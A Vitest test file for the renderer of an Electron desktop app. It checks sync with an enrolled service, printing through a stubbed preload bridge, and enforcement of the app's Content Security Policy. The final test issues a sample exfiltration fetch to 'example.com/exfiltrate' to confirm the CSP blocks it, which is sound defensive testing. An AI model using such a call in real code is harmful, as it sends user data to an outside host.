import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DeviceCredentials } from '@shared/sync/protocol';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumAvailable, launchChromium } from '../../scripts/lib/chromium';
import { serveBuilt } from '../../scripts/lib/serve-built';
import { signInAs } from '../../scripts/lib/sign-in';
import { contentSecurityPolicy } from '../../src-main/csp';
import { anOrder } from '../support/fixtures';
import { startTestService, type TestService } from '../support/service';

const present = chromiumAvailable('the shell renderer test');

type Seen = { violations: string[]; printed: { document: string; title: string; head: string }[] };

/**
 * The desktop build of the renderer, under the shell's own CSP and with a
 * stand-in for the preload's bridge: what the Electron window runs, in the
 * Chromium that Electron embeds (the Electron binary cannot run here).
 */
describe.skipIf(!present)('the renderer of the desktop shell', () => {
  const work = mkdtempSync(join(tmpdir(), 'associate-shell-renderer-'));
  let svc: TestService;
  let web: Awaited<ReturnType<typeof serveBuilt>>;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    execFileSync(
      process.execPath,
      ['node_modules/electron-vite/bin/electron-vite.js', 'build', '--outDir', work],
      {
        stdio: 'pipe',
        env: { ...process.env, NODE_ENV: 'production' },
      },
    );
    svc = await startTestService();
    await svc.createStore('paris-01', { name: 'Paris Rivoli' });
    await svc.oms('POST', '/stores/paris-01/orders', { order: anOrder({ id: 'o-1', number: 'FR-100001' }) });
    const credentials: DeviceCredentials = { serviceUrl: svc.url, ...(await svc.enroll('paris-01')) };
    const policy = contentSecurityPolicy({ service: new URL(svc.url).origin });
    web = await serveBuilt(join(work, 'renderer'), { 'content-security-policy': policy });
    browser = await launchChromium();
    page = await browser.newPage();
    await page.addInitScript((kept: DeviceCredentials) => {
      const seen: Seen = { violations: [], printed: [] };
      Object.assign(window, { seen });
      document.addEventListener('securitypolicyviolation', (e) =>
        seen.violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
      Object.assign(window, {
        associate: {
          credentials: { load: async () => kept, clear: async () => {} },
          device: { enroll: async () => ({ ok: false, failure: 'network', message: 'not here' }) },
          print: {
            print: async (job: { document: string; title: string; pdf: Uint8Array }) => {
              seen.printed.push({
                document: job.document,
                title: job.title,
                head: String.fromCharCode(...job.pdf.slice(0, 5)),
              });
              return { ok: true, destination: 'Zebra ZD421' };
            },
            save: async () => ({ ok: false, failure: 'cancelled', message: '' }),
          },
        },
      });
    }, credentials);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await web?.stop();
    await svc?.close();
    rmSync(work, { recursive: true, force: true });
  });

  const seen = () => page.evaluate(() => (window as unknown as { seen: Seen }).seen);

  it('syncs with the enrolled service and breaks no rule of its CSP', async () => {
    await page.goto(`${web.url}/index.html`);
    await signInAs(page, 'Alice Martin', '1234');
    await page.getByRole('cell', { name: 'FR-100001', exact: true }).waitFor();
    await page.getByTestId('sync-connection').filter({ hasText: 'En ligne' }).waitFor();
    expect((await seen()).violations).toEqual([]);
  });

  it('prints through the bridge: the PDF goes to main, the associate sees where', async () => {
    await page.getByRole('button', { name: 'Imprimer les documents de la commande FR-100001' }).click();
    await page.getByRole('button', { name: 'Liste de préparation — Imprimer' }).click();
    await page.getByRole('status').filter({ hasText: 'Envoyé à Zebra ZD421.' }).waitFor();
    const { printed, violations } = await seen();
    expect(printed).toEqual([
      { document: 'pick_list', title: 'Liste de préparation FR-100001', head: '%PDF-' },
    ]);
    expect(violations).toEqual([]);
  });

  it('keeps its CSP: a script that tries to reach another host is blocked', async () => {
    const outcome = await page.evaluate(() =>
      fetch('https://example.com/exfiltrate').then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(outcome).toBe('blocked');
    expect((await seen()).violations).toContain('connect-src https://example.com/exfiltrate');
  });
});
